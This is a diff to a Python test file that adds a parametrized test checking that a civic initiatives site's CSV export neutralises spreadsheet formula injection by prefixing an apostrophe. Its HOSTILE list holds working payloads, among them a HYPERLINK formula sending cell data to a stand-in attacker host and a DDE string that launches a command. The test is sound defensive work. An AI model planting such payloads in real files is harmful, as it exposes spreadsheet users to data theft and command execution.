@@ -125,6 +125,25 @@ def test_csv_export_has_published_only_and_no_personal_data(client, initiative, 
     assert not EMAIL.search(text) and not PHONE.search(text)
 
 
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
+    "+SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_csv_export_never_hands_a_spreadsheet_a_formula(client, value):
+    """CSV injection (issue #17): a cell that starts like a formula gets an apostrophe in front."""
+    InitiativeFactory(name=value, area=value, description=value)
+    text = b"".join(client.get(reverse("initiatives:export_csv")).streaming_content).decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert row["naam"] == row["wijk_of_dorp"] == row["beschrijving"] == "'" + value
+
+
 def _body(response) -> str:
     return b"".join(response.streaming_content).decode("utf-8-sig")
 
